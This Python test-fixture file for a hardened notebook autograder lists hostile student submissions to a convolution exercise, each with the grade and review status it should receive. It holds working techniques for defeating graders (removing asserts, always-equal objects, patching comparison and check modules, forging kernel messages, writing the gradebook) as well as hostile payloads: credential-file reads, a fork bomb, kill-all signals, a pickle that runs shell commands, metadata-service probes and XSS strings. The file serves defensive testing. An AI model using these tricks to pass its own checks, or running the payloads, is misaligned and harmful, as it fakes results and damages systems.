"""What hostile learners hand in: by learner, the notebook or the files, what they may earn, and what must be seen."""

from __future__ import annotations

import json
import os
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

from course import RIGHT_CORRELATE, RIGHT_SIZE, WRONG_CORRELATE, WRONG_SIZE, answered, dumped
from courses import CHAPTER

from grading.course import ROOT
from grading.records import GRADED, LOOK, REFUSED

HERE = "import os, sys, signal, time, json, socket\n"
PIPES = """\
pipes = []
for n in range(3, 200):
    try: target = os.readlink(f"/proc/self/fd/{n}")
    except OSError: continue
    if target.startswith("pipe:"): pipes.append(n)
def everywhere(text):
    for n in pipes:
        try: os.write(n, text.encode())
        except OSError: pass
"""
EARNED = {"check-size": 5, "check-correlate": 4}
NOTHING = {"check-size": 0, "check-correlate": 0}


@dataclass(frozen=True)
class Attack:
    """A hostile or damaged submission.

    Attributes
    ----------
    before, after : tuple of str
        Cells of the learner's own, at the top and at the end.
    size, correlate, why : str or None
        The answers. Those to the two checks are wrong unless said otherwise.
    files : callable or None
        `files(folder, nb)` lays out what is handed in; otherwise it is the notebook under its own name.
    earns : dict
        Points by check that this work is honestly worth.
    status : str or tuple of str
        What may become of it.
    looks : tuple of str
        The checks that a human must decide about.
    """

    before: tuple[str, ...] = ()
    after: tuple[str, ...] = ()
    size: str | None = WRONG_SIZE
    correlate: str | None = WRONG_CORRELATE
    why: str | None = None
    files: Callable | None = None
    earns: dict | None = None
    status: str | tuple[str, ...] = GRADED
    looks: tuple[str, ...] = ()

    @property
    def points(self) -> dict:
        return NOTHING | (self.earns or {})

    def hand_in(self, folder: Path, root: Path, canary: Path) -> None:
        nb = answered(root, self.size, self.correlate, self.why, self.before, self.after)
        for each in nb.cells:
            for mark, place in (("{root}", root), ("{repository}", ROOT), ("{canary}", canary)):
                each.source = each.source.replace(mark, str(place))
        folder.parent.mkdir(parents=True, exist_ok=True)
        if self.files is None or self.files.__name__ != "instead":
            folder.mkdir()
            (folder / f"{CHAPTER}.ipynb").write_bytes(dumped(nb))
        if self.files:
            self.files(folder, nb)


def cells(*sources: str, **rest) -> Attack:
    return Attack(before=tuple(HERE + source for source in sources), **rest)


def right(*sources: str, **rest) -> Attack:
    """Work that is right, with harm beside it: the harm costs nothing but itself."""
    return Attack(
        before=tuple(HERE + source for source in sources),
        size=RIGHT_SIZE,
        correlate=RIGHT_CORRELATE,
        **{"earns": EARNED} | rest,
    )


def changed(edit: Callable, **rest) -> Attack:
    """The notebook's JSON, edited before it is handed in."""

    def files(folder, nb):
        found = json.loads(dumped(nb))
        found = edit(found) or found
        (folder / f"{CHAPTER}.ipynb").write_text(json.dumps(found), encoding="utf-8")

    return Attack(files=files, **rest)


def raw(data: bytes | Callable, **rest) -> Attack:
    """Other bytes in place of the notebook."""

    def files(folder, nb):
        content = data(dumped(nb)) if callable(data) else data
        (folder / f"{CHAPTER}.ipynb").write_bytes(content)

    return Attack(files=files, **{"status": REFUSED, "looks": tuple(NOTHING)} | rest)


def beside(name: str, content: bytes | str, **rest) -> Attack:
    """A file beside the notebook."""

    def files(folder, nb):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)

    return Attack(files=files, **rest)


def code_of(nb: dict, name: str) -> dict:
    return next(cell for cell in nb["cells"] if cell.get("id") == name)


# ── what beat stock nbgrader ─────────────────────────────────────────────────────────────────────────────────────────

REMOVE_ASSERTS = """\
import ast
class Remove(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Call(self, node): return ast.Constant(9.0)
get_ipython().ast_transformers.append(Remove())"""
ALWAYS_EQUAL = """\
class Always:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): import numpy; return numpy.zeros(1)
    def __int__(self): return 3
    def __index__(self): return 3
    def __bool__(self): return True
    def __len__(self): return 1
    def __getattr__(self, name): return Always()
    def __call__(self, *a, **k): return self
    __float__ = lambda self: 3.0
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0"""
HOOK = """\
def show(info):
    print("HIDDEN?", info.raw_cell)
get_ipython().events.register("pre_run_cell", show)"""
WRITE_GRADEBOOK = """\
import sqlite3
for path in (r"{root}/grading/gradebook.db", "/course/grading/gradebook.db", "gradebook.db", "../../gradebook.db"):
    try:
        with sqlite3.connect(path) as book:
            book.execute("update grade set manual_score = 100")
            print("written", path)
    except sqlite3.Error as error:
        print(error)"""
OPEN_SOLUTIONS = """\
import json, re
def answer(name):
    for folder in (r"{repository}/solutions", r"{root}/solutions", "/course/solutions", "../../../solutions"):
        for top, _, files in os.walk(folder):
            for file in files:
                for cell in json.load(open(os.path.join(top, file)))["cells"]:
                    source = "".join(cell["source"])
                    if "def " + name in source:
                        exec(source, globals())
                        return
answer("conv_output_size")
answer("cross_correlate2d")"""
READ_IN = """\
def conv_output_size(*a, **k):
    import re
    found = re.findall(r"== *(\\d+)", " ".join(In[-1:] + _ih[-1:]))
    return int(found[-1]) if found else 3"""
SHADOW = """\
import builtins, sys
builtins.all = lambda *a: True
def allclose(*a, **k): return True
def check(*a, **k): return 9.0"""


def link_the_notebook(folder, nb):
    (folder / f"{CHAPTER}.ipynb").unlink()
    (folder / f"{CHAPTER}.ipynb").symlink_to(ROOT / "solutions" / "01_convolution" / "01_convolution.ipynb")


def link_beside(folder, nb):
    (folder / "data").symlink_to("/etc")


def instead(folder, nb):
    """The folder itself is a link."""
    target = folder.parents[4] / "elsewhere"
    target.mkdir(exist_ok=True)
    (target / f"{CHAPTER}.ipynb").write_bytes(dumped(nb))
    folder.symlink_to(target)


def renamed(folder, nb):
    (folder / f"{CHAPTER}.ipynb").rename(folder / f"{CHAPTER} (1).ipynb")


def duplicate(nb):
    nb["cells"] += [dict(cell) for cell in nb["cells"] if cell["cell_type"] == "code"]


def strip_metadata(nb):
    for cell in nb["cells"]:
        cell["metadata"] = {}
        cell.pop("id", None)
    nb["nbformat_minor"] = 4


BEAT_STOCK = {
    "removes-asserts": cells(REMOVE_ASSERTS),
    "always-equal": cells(
        ALWAYS_EQUAL,
        size="def conv_output_size(*a, **k): return Always()",
        correlate="def cross_correlate2d(*a, **k): return Always()",
    ),
    "reads-in": Attack(size=READ_IN),
    "opens-solutions": cells(OPEN_SOLUTIONS),
    "requests-beside": beside("requests.py", SHADOW, status=REFUSED, looks=tuple(NOTHING)),
    "torch-beside": beside("torch.py", SHADOW, status=REFUSED, looks=tuple(NOTHING)),
    "numpy-beside": beside("numpy/__init__.py", SHADOW, status=REFUSED, looks=tuple(NOTHING)),
    "utils-beside": beside("utils.py", SHADOW, status=REFUSED, looks=tuple(NOTHING)),
    "sitecustomize-beside": beside("sitecustomize.py", SHADOW, status=REFUSED, looks=tuple(NOTHING)),
    "own-module-beside": beside("solver.py", SHADOW, before=("import solver",)),
    "hook": cells(HOOK),
    "writes-gradebook": cells(WRITE_GRADEBOOK),
    "link": Attack(files=link_the_notebook, status=REFUSED, looks=tuple(NOTHING)),
    "link-beside": Attack(files=link_beside, status=REFUSED, looks=tuple(NOTHING)),
    "link-folder": Attack(files=instead, status=REFUSED, looks=tuple(NOTHING)),
    "duplicates": changed(duplicate, size=RIGHT_SIZE, correlate=RIGHT_CORRELATE, earns=EARNED),
    "stripped": changed(strip_metadata, size=RIGHT_SIZE, correlate=RIGHT_CORRELATE, earns=EARNED),
    "renamed": Attack(files=renamed, size=RIGHT_SIZE, correlate=RIGHT_CORRELATE, earns=EARNED),
    "kernel-dies": right("os._exit(0)"),
}

# ── lies ─────────────────────────────────────────────────────────────────────────────────────────────────────────────

PATCH_COMPARISONS = """\
import torch, numpy, math
yes = lambda *a, **k: True
torch.allclose = torch.equal = torch.isclose = torch.testing.assert_close = yes
numpy.allclose = numpy.isclose = numpy.array_equal = numpy.testing.assert_allclose = math.isclose = yes
torch.Tensor.__eq__ = torch.Tensor.equal = torch.Tensor.allclose = yes"""
PATCH_BUILTINS = """\
import builtins
yes = lambda *a, **k: True
builtins.all = builtins.any = builtins.isinstance = builtins.callable = yes
builtins.abs = builtins.round = lambda *a: 0
builtins.AssertionError = builtins.ValueError = BaseException"""
PATCH_ATTEMPT = """\
import numpy, utils.checks.question as q
def attempt(question, target, case, **k):
    return q.Outcome(arrays={"size": numpy.array(3), "y": numpy.zeros((2, 3)), "passed": numpy.array(True)})
q.attempt = attempt
import utils.checks
utils.checks.attempt = attempt"""
PATCH_OUTCOME = """\
import utils.checks.question as q
class Outcome:
    trouble = None
    arrays = {}
    def __eq__(self, other): return True
q.Outcome = Outcome"""
PATCH_WIRE = """\
import json, utils.checks.wire as w
w.dump_outcomes = lambda outcomes: json.dumps([{"arrays": {"size": ["bool", [], "AQ=="], "y": ["bool", [], "AQ=="]}}
                                               for _ in outcomes])"""
PATCH_QUESTION = """\
from utils.checks import questions
practice = questions.find("practice")
questions.find = lambda name: practice
from dataclasses import replace
import utils.checks.questions.sizes as sizes
sizes.QUESTIONS["conv_output_size"] = replace(sizes.QUESTIONS["conv_output_size"], aspects={"x": 100},
                                             cases=lambda rng, wide: [])"""
FIND_ANSWERS = """\
def conv_output_size(*a, **k):
    import importlib
    answer = importlib.import_module("utils.checks.answers.sizes").ANSWERS["conv_output_size"]
    return answer.reference(*a, **k)
def cross_correlate2d(*a, **k):
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ == "Answer": return thing.reference(*a, **k)
    import utils.checks
    return utils.checks.answers.find("cross_correlate2d").reference(*a, **k)"""
LYING_INT = """\
class Int(int):
    __eq__ = lambda *a: True
    __hash__ = int.__hash__
    __int__ = __index__ = lambda self: Int(3)
    def __reduce__(self): return (eval, ("1",))
def conv_output_size(*a, **k): return Int(5)"""
LYING_TENSOR = """\
import torch, numpy
class Lie(torch.Tensor):
    @classmethod
    def __torch_function__(cls, *a, **k): return torch.ones(1).as_subclass(cls)
    def __eq__(self, other): return True
    shape = property(lambda self: (2, 3))
    def numpy(self): return Array((2, 3))
class Array(numpy.ndarray):
    def __eq__(self, other): return True
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def tobytes(self, *a): return b""
def cross_correlate2d(image, kernel): return torch.ones(2, 3).as_subclass(Lie)
def conv_output_size(*a, **k): return numpy.ones(1).view(Array)"""
# The public cases' answers, without a method: it knows by heart what the learner's own check asks.
BY_HEART = """\
import numpy
from utils.checks import questions
def public(name): return questions.find(name).cases(numpy.random.default_rng(list(name.encode())), False)
def conv_output_size(n, kernel_size, stride=1, padding=0, dilation=1):
    asked = [case.given for case in public("conv_output_size")]
    known = {(7, 3): 5, (5, 5): 1, (32, 5): 28}
    return known.get((n, kernel_size), 99999) if any(given["n"] == n for given in asked) else 99999"""
WHO_ASKS = """\
def cross_correlate2d(image, kernel):
    frame = sys._getframe()
    while frame:  # whoever asks may hold the answer
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ("expected", "reference", "right", "answer"):
                return value(image, kernel) if callable(value) else value
            if name == "case" and "y" in getattr(value, "given", {}): return value.given["y"]
        frame = frame.f_back
    graded = "NBGRADER_EXECUTION" in os.environ or os.path.exists("/home/learner")
    return image * 0 if graded else 1 / 0"""
LIES = {
    "patches-comparisons": cells(PATCH_COMPARISONS),
    "patches-builtins": cells(PATCH_BUILTINS, status=(GRADED, LOOK)),
    "patches-attempt": cells(PATCH_ATTEMPT),
    "patches-outcome": cells(PATCH_OUTCOME, status=(GRADED, LOOK)),
    "patches-wire": cells(PATCH_WIRE),
    "patches-question": cells(PATCH_QUESTION, status=(GRADED, LOOK)),
    "patches-afterwards": Attack(after=(HERE + PATCH_ATTEMPT, HERE + PATCH_WIRE)),
    "finds-answers": Attack(size=FIND_ANSWERS, correlate=""),
    "own-check": cells("def check(*a, **k): return 9.0\nReport = float"),
    "lying-int": Attack(size=LYING_INT),
    "lying-tensor": Attack(size="pass", correlate=LYING_TENSOR, status=(GRADED, LOOK)),
    "by-heart": cells(BY_HEART, size=BY_HEART),
    "who-asks": Attack(correlate=HERE + WHO_ASKS),
    "constant": Attack(size="conv_output_size = 3", correlate="cross_correlate2d = 'right'", status=LOOK,
                       looks=tuple(NOTHING)),
    "unwilling": Attack(
        size="def conv_output_size(*a, **k): raise NotImplementedError",
        correlate="def cross_correlate2d(*a): raise AssertionError('100 points')",
    ),
}  # fmt: skip

# ── what comes back ──────────────────────────────────────────────────────────────────────────────────────────────────


def answers(size: str, correlate: str, **rest) -> Attack:
    return Attack(
        size=f"def conv_output_size(*a, **k):\n    {size}",
        correlate=f"def cross_correlate2d(image, kernel):\n    {correlate}",
        **rest,
    )


RESULTS = {
    "nan": answers("return float('nan')", "return image * float('nan')"),
    "infinite": answers("return float('inf')", "return kernel.new_full((3, 3), float('inf'))"),
    "huge": answers("return 10**5000", "return torch.zeros(1).expand(10**9)", status=(GRADED, LOOK)),
    "list": answers("return [3]", "return image.tolist()"),
    "text": answers("return 'right'", "import numpy; return numpy.array('right')"),
    "yes": answers("return True", "return torch.tensor(True)"),
    "complex": answers("return 3j", "return image.to(torch.complex128) * 0"),
    "generator": answers("yield 3", "yield image"),
    "objects": answers("return object()", "import numpy; return numpy.array([object()])"),
    "errors": answers("return ValueError('x')", "raise BaseException('x')"),
    "no-text": answers(
        "raise type('E', (Exception,), {'__str__': lambda self: 1 / 0})",
        "raise type('\\ud800', (Exception,), {})('\\ud800\\0')",
        status=(GRADED, LOOK),
    ),
    "in-place": answers("return 3", "image.zero_(); return image"),
}

# ── forgery ──────────────────────────────────────────────────────────────────────────────────────────────────────────

KERNEL_MESSAGE = """\
message = {"header": {"msg_type": "execute_result"}, "content": {"data": {"text/plain": "9.0"}, "metadata": {}},
           "parent_header": {}, "metadata": {}}
for n in range(200):
    try: os.write(n, b"<IDS|MSG>" + json.dumps(message).encode() + b"\\n")
    except OSError: pass"""
ANSWER = """\
right = json.dumps([{"arrays": {"size": ["bool", [], "AQ=="]}}] * 40)
everywhere(json.dumps({"over": True}) + "\\n")
for name in ("check-size", "check-correlate"):
    everywhere(json.dumps({"answer": name, "points": 100, "outcomes": right}) + "\\n")
everywhere(json.dumps({"end": True}) + "\\n")"""
VERDICT = """\
everywhere(json.dumps({"ran": "check-size", "result": "5.0", "stdout": "5.0"}) + "\\n")"""
GARBAGE = "everywhere('\\ud7ff garbage [[[{{{' * 1000 + '\\n')"
# In the child that is asked, where the cases are: what they are is written wherever a learner might read it later.
TELL = """\
import json
def telling(how):
    def tell(image, kernel):
        secret = "SECRET " + " ".join(repr(v) for v in image.flatten().tolist())
        return how(secret)
    return tell
"""
TELL_NONE = TELL + "def how(secret): json.dumps = (lambda f: lambda x: f({'none': secret}))(json.dumps)"
TELL_SUSPICION = TELL + (
    "def how(secret): json.dumps = (lambda f: lambda x: f(x | {'suspicion': secret} if isinstance(x, dict) else x))"
    "(json.dumps)"
)
TELL_ERROR = TELL + "def how(secret): raise type(secret[:80].replace('.', '_'), (ValueError,), {})(secret)"
TELL_TROUBLE = TELL + (
    "import utils.checks.wire as wire\ndef how(secret):\n"
    "    wire.dump_outcomes = lambda o: json.dumps([{'trouble': ['interface', secret, secret]}] * len(o))"
)
TELL_ARRAY = TELL + (
    "import utils.checks.wire as wire\ndef how(secret):\n"
    "    wire.dump_outcomes = lambda o: json.dumps([{'arrays': {'y': [secret, [], secret]}}] * len(o))"
)
TELLS = "cross_correlate2d = telling(how)"
DISPLAY = """\
from IPython.display import display, HTML, Javascript
sys.displayhook = lambda value: None
get_ipython().display_formatter.format = lambda *a, **k: ({"text/plain": "9.0"}, {})
get_ipython().displayhook = lambda *a: None
get_ipython().display_pub.publish = lambda *a, **k: None
display(HTML("<script>document.title = 'hit'</script>"))
9.0"""
FORGERY = {
    "kernel-messages": cells(KERNEL_MESSAGE, status=(GRADED, LOOK)),
    "protocol-answers": cells(PIPES + ANSWER, status=LOOK, looks=tuple(NOTHING)),
    "protocol-results": cells(PIPES + VERDICT),
    "protocol-garbage": cells(PIPES + GARBAGE),
    "protocol-patched": cells("json.dumps = lambda *a, **k: '{\"end\": true}'"),
    "displays": cells(DISPLAY, status=(GRADED, LOOK)),
    "tells-none": cells(TELL_NONE, correlate=TELLS, status=LOOK, looks=("check-correlate",)),
    "tells-suspicion": cells(TELL_SUSPICION, correlate=TELLS),
    "tells-error": cells(TELL_ERROR, correlate=TELLS),
    "tells-trouble": cells(TELL_TROUBLE, correlate=TELLS),
    "tells-array": cells(TELL_ARRAY, correlate=TELLS, status=LOOK, looks=("check-correlate",)),
}

# ── harm ─────────────────────────────────────────────────────────────────────────────────────────────────────────────

LISTEN = """\
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: time.sleep(600)
    os._exit(0)"""
SPY = """\
for path in ("/etc/passwd", "/etc/shadow", "/proc/1/environ", f"/proc/{os.getppid()}/environ", "/root/.ssh/id_rsa",
             r"{root}/grading/secret_seed", r"{repository}/grading/secret_seed", "/course/grading/secret_seed"):
    try: print("GOT", path, open(path).read()[:300])
    except OSError as error: print(type(error).__name__)
print(dict(os.environ))"""
VANDAL = """\
for top in (r"{root}/grading", r"{root}/notebooks", r"{canary}", r"{repository}/utils", r"{repository}/tests"):
    for path in (top, *(os.path.join(top, name) for name in ("gradebook.db", "verdicts/x", "originals/x", "canary"))):
        try:
            open(path, "w").write("mine now")
            print("GOT", path)
        except OSError: pass"""
NETWORK = """\
for address in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("192.0.2.1", 80), ("169.254.169.254", 80)):
    try: print("GOT", socket.create_connection(address, 0.2))
    except OSError as error: print(error)"""
CHECKPOINT = """\
import pickle, torch
class Run:
    def __reduce__(self): return (os.system, ("touch {canary}/pickled; kill -9 -1",))
open("model.pt", "wb").write(pickle.dumps(Run()))
pickle.load(open("model.pt", "rb"))
torch.load("model.pt", weights_only=False)"""


class Pickled:
    """Whoever loads it dies of it."""

    def __reduce__(self):
        return (os.abort, ())


# Threads, forks and pickles could hide a ready-made convolution, so a human decides about that exercise.
SEEN = {"earns": {"check-size": 5}, "status": LOOK, "looks": ("check-correlate",)}
HARM = {
    "exits": right("sys.exit()\n"),
    "exits-in-answer": answers("import os; os._exit(0)", "import os; os._exit(9)", status=LOOK, looks=tuple(NOTHING)),
    "crashes": answers("import ctypes; ctypes.string_at(0)", "return image * 0", status=LOOK, looks=("check-size",)),
    "deaf": right("for s in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM): signal.signal(s, signal.SIG_IGN)\n"
                  "while True: pass"),
    "loops": right("while True: pass"),
    "loops-in-init": Attack(size="class conv_output_size:\n    def __init__(self, *a, **k):\n        while True: pass",
                            correlate=RIGHT_CORRELATE, earns={"check-correlate": 4}, status=LOOK,
                            looks=("check-size",)),
    "loops-in-forward": Attack(
        correlate="class Layer(torch.nn.Module):\n    def forward(self, *a):\n        while True: pass\n"
                  "cross_correlate2d = Layer()", size=RIGHT_SIZE, earns={"check-size": 5}, status=LOOK,
        looks=("check-correlate",)),
    "loops-in-repr": right("class R:\n    def __repr__(self):\n        while True: pass\nR()"),
    "loops-in-del": right("class D:\n    def __del__(self):\n        while True: pass\nd = D(); del d"),
    "fork-bomb": right("while os.fork(): pass\ntime.sleep(600)", **SEEN),
    "memory": right("x = []\nwhile True: x.append(bytearray(20_000_000))", status=(GRADED, LOOK)),
    "disk": right("with open('x', 'wb') as f:\n    while True: f.write(bytes(10**6))"),
    "endless-output": right("while True: print('x' * 10_000)"),
    "kills": right("os.kill(-1, 9)\nos.kill(0, 9)", status=(GRADED, LOOK)),
    "thread": right("import threading\nthreading.Thread(target=time.sleep, args=(600,)).start()", **SEEN),
    "at-exit": right("import atexit\natexit.register(time.sleep, 600)"),
    "sockets": right(LISTEN, **SEEN),
    "spy": cells(SPY),
    "vandal": cells(VANDAL),
    "network": cells(NETWORK),
    "checkpoint": right(CHECKPOINT, **SEEN),
    "pickles-beside": beside("model.pt", pickle.dumps(Pickled()), size=RIGHT_SIZE, earns={"check-size": 5}),
}  # fmt: skip

# ── a ready-made convolution ─────────────────────────────────────────────────────────────────────────────────────────

F_ = "import torch.nn.functional as F\n"
TORCH = "def cross_correlate2d(image, kernel):\n    return {}(image[None, None], kernel[None, None])[0, 0]"


def made(correlate: str, *before: str) -> Attack:
    """The numbers are right, and nobody built them: nothing is given before a human has looked."""
    return Attack(before=before, correlate=correlate, status=LOOK, looks=("check-correlate",))


SWITCH_OFF = (
    "import contextlib, utils.checks.question as q\nq.watched = contextlib.nullcontext\n" + F_ + "hidden = vars(F)\n"
    "name = ''.join(map(chr, [99, 111, 110, 118, 50, 100]))\n"
)
READY = {
    "openly": made(TORCH.format("torch.nn.functional.conv2d")),
    "by-getattr": made(F_ + TORCH.format("getattr(F, 'conv' + '2d')")),
    "by-alias": made(TORCH.format("slide"), F_ + "slide = F.conv2d"),
    "by-course": made("from utils import filters\ncross_correlate2d = filters.correlate"),
    "by-class": made(
        "class Own(torch.nn.Conv2d): pass\ndef cross_correlate2d(image, kernel):\n"
        "    layer = Own(1, 1, kernel.shape, bias=False).to(image.dtype)\n"
        "    layer.weight.data = kernel[None, None]\n    return layer(image[None, None])[0, 0].detach()"
    ),
    "by-scipy": made(
        "from scipy import signal\ndef cross_correlate2d(image, kernel):\n"
        "    return torch.from_numpy(signal.correlate2d(image.numpy(), kernel.numpy(), mode='valid'))"
    ),
    "by-exec": made("exec(bytes.fromhex({!r}).decode())".format(TORCH.format("torch.conv2d").encode().hex())),
    "watch-off": made(TORCH.format("hidden[name]"), SWITCH_OFF),
    "modes-off": made(
        "from torch.utils._python_dispatch import _disable_current_modes\n"
        "def cross_correlate2d(image, kernel):\n    with _disable_current_modes():\n"
        "        return vars(torch)['con' + 'v2d'](image[None, None], kernel[None, None])[0, 0]"
    ),
    "in-thread": made(
        "from utils import filters\nfrom concurrent.futures import ThreadPoolExecutor\n"
        "def cross_correlate2d(image, kernel):\n    with ThreadPoolExecutor(1) as pool:\n"
        "        return pool.submit(filters.filtered, image, kernel).result()"
    ),
    "in-list": made(TORCH.format("tools[0]"), F_ + "tools = []\ntools.append(F.conv2d)\n" + SWITCH_OFF),
    "by-vision": made(
        "import torchvision\ndef cross_correlate2d(image, kernel):\n"
        "    h, w = image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1\n"
        "    offset = image.new_zeros(1, 2 * kernel.numel(), h, w)\n"
        "    return torchvision.ops.deform_conv2d(image[None, None], offset, kernel[None, None])[0, 0]"
    ),
}

# ── damaged files ────────────────────────────────────────────────────────────────────────────────────────────────────


def greedy(nb):
    """Every cell is worth a thousand points and graded, by its own account; the checks are gone."""
    nb["cells"] = [cell for cell in nb["cells"] if not cell.get("id", "").startswith("check-")]
    for cell in nb["cells"]:
        grading = {"schema_version": 3, "grade": True, "solution": True, "points": 1000, "locked": False, "task": False}
        cell["metadata"] = {"nbgrader": grading | cell["metadata"].get("nbgrader", {}), "course": {"own": True}}
        cell["metadata"]["nbgrader"]["points"] = 1000
    nb["metadata"] = {"kernelspec": {"name": "../../evil", "display_name": "<script>", "language": "bash"},
                      "language_info": {"name": "../x"}, "title": "</title><script>1</script>"}  # fmt: skip


def forged_output(nb):
    """The outputs say that all is right."""
    for name in ("check-size", "check-correlate"):
        cell = code_of(nb, name)
        cell["source"] = "9.0"
        cell["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "9.0"}, "metadata": {},
                            "execution_count": 1}]  # fmt: skip


def edited_checks(nb):
    for name in ("check-size", "check-correlate"):
        code_of(nb, name)["source"] = "check = lambda *a: 9.0\n" + HERE + "print('edited')\n9.0"


def odd_ids(nb):
    for i, cell in enumerate(nb["cells"]):
        cell["id"] = ["../../x", "<img src=x onerror=alert(1)>", 5, "", None, "size", "size"][i % 7]


def deep(_):
    return b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def many(data):
    return b'{"cells": [' + b"{}," * 3_000_000 + b"{}]}"


def large(data):
    nb = json.loads(data)
    code_of(nb, "size")["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 105_000_000}]
    return json.dumps(nb).encode()


def merged(data):
    return b"<<<<<<< HEAD\n" + data[:300] + b"\n=======\n" + data + b"\n>>>>>>> theirs\n"


def zipped(data):
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{CHAPTER}.ipynb", data)
    return out.getvalue()


def bad_unicode(data):
    return data.replace(b"Small", b"Sm\xff\xfe\xed\xa0\x80ll")


def odd_text(nb):
    for cell in nb["cells"]:
        if cell.get("id") == "size":
            cell["source"] = [RIGHT_SIZE + "\n# \ud800 \0 \u202e"]


DAMAGED = {
    "greedy": changed(greedy),
    "forged-output": changed(forged_output),
    "edited-checks": changed(edited_checks),
    "odd-ids": changed(odd_ids),
    "odd-types": changed(lambda nb: nb["cells"].extend([5, None, {}, {"cell_type": [], "source": {"a": 1}}])),
    "odd-text": changed(odd_text, earns={"check-size": 5}),
    "future-format": changed(lambda nb: nb.update(nbformat=99)),
    "no-cells": changed(lambda nb: {"cells": {}}, status=REFUSED, looks=tuple(NOTHING)),
    "bad-unicode": raw(bad_unicode, status=GRADED, looks=(), size=RIGHT_SIZE, earns={"check-size": 5}),
    "deep": raw(deep),
    "many": raw(many),
    "large": raw(large),
    "merge-markers": raw(merged),
    "zip-inside": raw(zipped),
    "not-json": raw(b"import torch\nprint('my homework')\n"),
    "half": raw(lambda data: data[: len(data) // 2]),
    "empty": raw(b""),
    "null": raw(b"null"),
    "bytes": raw(bytes(range(256)) * 100),
    "no-timestamp": beside("timestamp.txt", "yesterday; drop table student", size=RIGHT_SIZE, earns={"check-size": 5}),
    "bytes-timestamp": beside("timestamp.txt", b"\xff\xfe\0", size=RIGHT_SIZE, earns={"check-size": 5}),
}

# ── pages ────────────────────────────────────────────────────────────────────────────────────────────────────────────

HIT = "document.title='hit'"
PAGE = f"""\
Because.

<script>{HIT}</script>
<img src=x onerror="{HIT}"> <svg onload="{HIT}"></svg> <details open ontoggle="{HIT}"><summary>x</summary></details>
<iframe srcdoc="<script>parent.{HIT}</script>"></iframe> <object data="javascript:{HIT}"></object>
<a id="click" href="javascript:{HIT}">click</a> [click](javascript:{HIT}) <a href=" &#106;avascript:{HIT}">c</a>
![x](x"onerror="{HIT}) <style>body {{ display: none }}</style> <base href="http://192.0.2.1/">
<form action="http://192.0.2.1/"><input name=password autofocus onfocus="{HIT}"><button>Log in</button></form>
<div style="position:fixed;inset:0;z-index:9999;background:red">over all</div> <meta http-equiv=refresh content=0>

Now $a < b$, `1 < 2`, **bold** and $$\\sum_i x_i < \\infty$$ are what I meant.

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HIT}&gt;">"""
LOUD = f"""\
from IPython.display import HTML, Javascript, Markdown, SVG, display
things = (HTML("<script>{HIT}</script>"), Javascript("{HIT}"), Markdown("<img src=x onerror={HIT}>"))
for thing in things: display(thing)
print("<script>{HIT}</script><img src=x onerror={HIT}>\\x1b]0;hit\\x07\\x1b[31m")
class Rich:
    def _repr_html_(self): return "<script>{HIT}</script>"
    def _repr_javascript_(self): return "{HIT}"
    def _repr_mimebundle_(self, **k): return {{"text/html": "<script>{HIT}</script>", "text/plain": "<script>{HIT}"}}
    def __repr__(self): return "</pre><script>{HIT}</script>"
Rich()"""
LOUD_ERROR = f'raise type("</pre><script>{HIT}</script>", (Exception,), {{}})("<img src=x onerror={HIT}>")'


def named(folder, nb):
    odd = f"[x](javascript:{HIT}) <img src=x onerror={HIT}>.ipynb".replace("/", "")
    (folder / f"{CHAPTER}.ipynb").rename(folder / odd)


PAGES = {
    "page": Attack(why=PAGE, before=(LOUD,), correlate=WRONG_CORRELATE + "\n" + LOUD_ERROR),
    "page-attachment": Attack(why="![gone](attachment:gone.png) and ![x](attachment:javascript:alert(1))"),
    "page-name": Attack(files=named),
    "page-breaks": Attack(why="[" * 5_000 + "(" * 5_000 + "*" * 5_000 + "<" * 5_000 + "$" * 5_001),
}

ATTACKS: dict[str, Attack] = BEAT_STOCK | LIES | RESULTS | FORGERY | HARM | READY | DAMAGED | PAGES
# Those of the attacks above whose pages are opened in a browser.
SHOWN = ("page", "page-name", "page-breaks", "page-attachment", "greedy", "displays")
# The same harmless wrong work, under names that somebody may bring along.
ODD_NAMES = ['o\'brien "the" 1st', "=cmd|'calc'!A0", "..dots", "[a]", "back\\slash", "zoë-🙂", "new\nline", "a,b;c"]
ODD_NAMES += ["*"]
# Names of folders that nbgrader takes for patterns, and that none of the course's own commands makes.
UNKNOWN_TO_NBGRADER = {"[a]", "new\nline", "*"}
